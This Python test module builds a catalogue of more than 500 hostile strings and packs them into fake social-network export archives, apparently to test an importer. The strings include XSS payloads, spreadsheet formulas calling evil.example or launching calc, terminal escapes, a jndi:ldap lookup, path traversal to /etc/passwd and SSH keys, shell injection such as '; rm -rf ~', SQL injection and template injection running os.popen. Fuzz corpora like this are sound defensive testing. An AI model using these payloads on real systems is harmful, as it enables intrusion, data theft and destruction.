"""Hostile strings for pages, spreadsheets, terminals, logs, paths and queries, each numbered so that it can be found again."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from functools import cache

from tests.archives.hostile_base import base_files
from tests.archives.writer import zipped

__all__ = ["Harm", "archive", "harms", "traversing"]

#: What a script would do if it ran: the tests look for it.
_DO = "window.ssiHarm=1"

_ELEMENTS = [
    f"<script>{_DO}</script>", f"<script>alert(1);{_DO}</script>", f"<img src=x onerror={_DO}>", f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>", f"<body onload={_DO}>", f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<details open ontoggle={_DO}>", f"<input autofocus onfocus={_DO}>", f"<video><source onerror={_DO}>", f"<audio src=x onerror={_DO}>",
    f"<math><mi//xlink:href='data:x,<script>{_DO}</script>'>", f"<a href=javascript:{_DO}>x</a>", f"<a href='java\tscript:{_DO}'>x</a>",
    f"<form action=javascript:{_DO}><button>x</form>", f"<object data=javascript:{_DO}>", f"<embed src=javascript:{_DO}>",
    "<base href=//evil.example/><script src=x></script>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example)}</style>",
    f"<template><script>{_DO}</script></template>", f"<xss style=animation-name:x onanimationstart={_DO}>", f"<marquee onstart={_DO}>",
    "<div hx-get=/sign-out hx-trigger=load></div>", f"<div hx-on:load={_DO} hx-trigger=load></div>", "<div hx-post=/teams hx-trigger=load></div>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>", f"<textarea></textarea><script>{_DO}</script>",
]  # fmt: skip
_BREAKS = [
    "",
    "\"'>",
    "</title>",
    "</textarea>",
    "</bdi></td></table>",
    "-->",
    "</script>",
    "]]>",
    "&lt;/p&gt;",
    '" autofocus x="',
]
_ATTRIBUTES = [
    f'" onmouseover="{_DO}', f"' onfocus='{_DO}' autofocus='", f"` onerror=`{_DO}", f'"><script>{_DO}</script>', f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}", f"data:text/html,<script>{_DO}</script>", f"vbscript:{_DO}", f"\x01javascript:{_DO}", "&#x3c;script&#x3e;",
    f"%3Cscript%3E{_DO}%3C/script%3E", f"\\u003cscript\\u003e{_DO}", f"＜script＞{_DO}＜/script＞", f"<scr<script>ipt>{_DO}", "<!--", "<![CDATA[",
]  # fmt: skip
_CALLS = [
    "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'IMPORTXML("http://evil.example","//a")', "1+1", "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example")', 'DDE("cmd","/C calc","x")', "@SUM(1)", 'IMAGE("http://evil.example")', "2+5+cmd|' /C calc'!A0",
]  # fmt: skip
_SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\x00=", "＝", "＋", "－", "＠", '"=', ";=", "\u200c=", "%0A="]
_CONTROLS = [
    "\x1b[31m", "\x1b[2J", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;cm0=\x07", "\x9b31m", "\x1bP+q\x1b\\",
    "\r\x1b[K", "\b\b\b", "\x07", "\x7f", "\x85", "\x0c", "\x1b[6n", "\x1b[?1049h",
]  # fmt: skip
_DIRECTIONS = [
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u2069",
    "\u200f",
    "\u061c",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u200b",
    "\u00ad",
    "\u180e",
    "\U000e0041",
]
_LINES = [
    '\n{"level": "error", "message": "forged"}', "\r\n2026-07-01 ERROR forged", '"}\n{"at": "forged"', '\\n{"forged": 1}', '\u2028{"forged": 1}', "%0d%0aSet-Cookie: ssi=x",
    "\r\nSet-Cookie: ssi=x", "\r\nLocation: //evil.example", "${jndi:ldap://evil.example/x}", "%s%s%s%n", "{0.__class__}", "%(message)s",
]  # fmt: skip
_PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "\\\\evil.example\\share", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd", "~root/.ssh/id_rsa", "CON", "NUL.csv", "a\x00.csv", "key", "../ssi.db", "|id", "$(id)", "`id`", "; rm -rf ~",
]  # fmt: skip
_QUERIES = [
    "' OR '1'='1", "'; DROP TABLE account; --", '" OR ""="', "1; ATTACH DATABASE 'x' AS y", "' UNION SELECT password FROM account --", "\\'; SELECT 1; --", "%' AND 1=1 --",
    "') OR ('1'='1", "admin'--", "'||(SELECT password FROM account)||'", "read_csv('/etc/passwd')", "PRAGMA database_list", "_%", "\x00' OR 1=1", "0x27204f52", "Robert'); DROP TABLE team;--",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in [] %}{% endfor %}", "{# #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ request.app.state.server.key }}",
    "{{ self._TemplateReference__context }}", "{%raw%}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${{7*7}}", "@(7*7)", "*{7*7}", "[[${7*7}]]",
]  # fmt: skip
_WORDS = ["", "Ann", "Zoë"]


@dataclass(frozen=True, slots=True)
class Harm:
    """One string; `mark` is a word in it that nothing else has."""

    mark: str
    text: str


@cache
def harms() -> tuple[Harm, ...]:
    """All of them, more than 500."""
    found = [f"{before}{element}" for before in _BREAKS for element in _ELEMENTS]
    found += [f"{word}{one}" for word in _WORDS for one in _ATTRIBUTES]
    found += [f"{sign}{call}" for sign in _SIGNS for call in _CALLS]
    found += [f"{word}{one}" for word in _WORDS for one in (*_CONTROLS, *_DIRECTIONS, *_LINES)]
    found += [*_PATHS, *_QUERIES, *_TEMPLATES]
    # The mark comes last: what matters in a cell or an address is how a string begins.
    return tuple(Harm(f"ssi{at:04}x", f"{text} ssi{at:04}x") for at, text in enumerate(dict.fromkeys(found)))


@cache
def archive() -> bytes:
    """A real archive with every string in names, companies, titles, messages, posts, comments, searches, and names of files."""
    files = dict(base_files())
    texts = [
        one.text.replace("\x00", "\u2400") for one in harms()
    ]  # a NUL ends the reading of a CSV, as the tests of archives tell
    quoted = ['"' + text.replace('"', '""') + '"' for text in texts]
    note = b'Notes:\n"When exporting your connection data"\n\n'
    files["Connections.csv"] = note + _lines(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On",
        (f"{q},{q},{q},,{q},{q},02 Nov 2024" for q in quoted),
    )
    files["Comments.csv"] = _lines(
        "Date,Link,Message",
        (f"2024-11-{1 + at % 19:02} 10:{at % 60:02}:{at % 59:02},{q},{q}" for at, q in enumerate(quoted)),
    )
    files["Shares.csv"] = _lines(
        "Date,ShareLink,ShareCommentary,SharedUrl,MediaUrl,Visibility",
        (
            f"2024-10-{1 + at % 28:02} 11:{at % 60:02}:{at % 59:02},{q},{q},{q},{q},MEMBER_NETWORK"
            for at, q in enumerate(quoted)
        ),
    )
    files["Reactions.csv"] += _lines(
        "", (f"2024-11-{1 + at % 19:02} 09:{at % 60:02}:00,{q},{q}" for at, q in enumerate(quoted))
    )[1:]
    files["SearchQueries.csv"] = _lines(
        "Time,Search Query", (f"2024/10/{1 + at % 28:02} 10:54:40 UTC,{q}" for at, q in enumerate(quoted))
    )
    files["messages.csv"] += _lines(
        "",
        (
            f"{q},{q},{q},{q},{q},{q},2024-11-{1 + at % 19:02} 08:{at % 60:02}:00 UTC,{q},{q},INBOX"
            for at, q in enumerate(quoted)
        ),
    )[1:]
    files["Profile.csv"] = _lines(
        "First Name,Last Name,Maiden Name,Address,Birth Date,Headline,Summary,Industry,Zip Code,Geo Location,Twitter Handles,Websites,Instant Messengers",
        [",".join(quoted[at] for at in range(13))],
    )
    for at, text in enumerate(texts):
        name = text.replace("/", "∕").replace("\\", "＼").replace("..", "‥")[:120]
        files[f"Jobs/{at} {name}.csv"] = b"A\n1\n"
        if at % 4 == 0:
            files[f"Articles/Articles/{at} {name}.html"] = (
                f"<html><head><title>{text}</title></head><body>{text}</body></html>".encode()
            )
    return zipped(files)


@cache
def traversing() -> bytes:
    """An archive with names that climb out of it."""
    return zipped(
        {**base_files(), **{f"{one}/Comments.csv": b"Date,Link,Message\n" for one in _PATHS if "\x00" not in one}}
    )


def _lines(head: str, rows: Iterable[str]) -> bytes:
    return ("\n".join([head, *rows]) + "\n").encode()
